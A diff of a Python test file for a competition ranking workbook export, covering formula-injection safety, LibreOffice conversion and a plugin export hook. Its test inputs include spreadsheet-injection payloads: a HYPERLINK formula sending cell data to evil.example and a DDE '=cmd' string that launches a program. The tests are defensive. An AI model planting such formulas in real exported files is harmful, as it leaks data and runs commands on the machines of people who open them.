@@ -1,7 +1,6 @@
 """The ranking workbook made from the database: values per sheet, safety, LibreOffice, CLI."""
 
 import io
-import shutil
 import subprocess
 from decimal import Decimal
 
@@ -18,6 +17,7 @@ from judging.results.freeze import freeze_results
 from judging.results.special import add_special_award
 from judging.scoring.hookspecs import hookimpl
 from tests.app.results_world import build_results_world
+from tests.workbooks import libreoffice
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
@@ -108,13 +108,13 @@ def test_user_text_never_becomes_a_formula(app, make):
     assert {"=cmd|' /C calc'!A0", "=1+2", "＝1+1"} <= seen
 
 
-@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice (soffice) not installed")
 def test_libreoffice_converts_the_workbook(app, make, tmp_path):
+    office = libreoffice()
     world = build_results_world(make, names={0: PAYLOADS[0]})
     source = tmp_path / "peringkat.xlsx"
     source.write_bytes(ranking_workbook(world.competition))
     done = subprocess.run(
-        ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path / 'lo'}",
+        [office, "--headless", f"-env:UserInstallation=file://{tmp_path / 'lo'}",
          "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,"
          "false,2", "--outdir", str(tmp_path), str(source)],
         capture_output=True, text=True, timeout=180,
@@ -194,8 +194,8 @@ class SheetPlugin:
     @hookimpl
     def judging_export_sheets(self, competition, categories):
         self.calls.append((competition, categories))
-        rows = [[c["name"], r.rank, r.name, float(r.total)]
-                for c in categories for r in c["results"]]
+        rows = [[c.name, r.rank, r.name, float(r.total)]
+                for c in categories for r in c.results]
         return [("Sheet Plugin", ["Kategori", "Peringkat", "Nama", "Nilai"], rows)]
 
 
@@ -211,7 +211,7 @@ def test_plugins_add_sheets_through_the_export_hook(app, make, sheet_plugin):
     world = build_results_world(make, names={1: "=1+1"})
     wb = workbook(ranking_workbook(world.competition, world.category))
     competition, categories = sheet_plugin.calls[0]
-    assert competition["name"] == "Monev KIP" and categories[0]["method"] == (
+    assert competition.name == "Monev KIP" and categories[0].method == (
         "information_disclosure")
     ws = wb["Sheet Plugin"]
     assert rows(ws)[1] == ["Badan Publik", 2, "=1+1", 79.75]
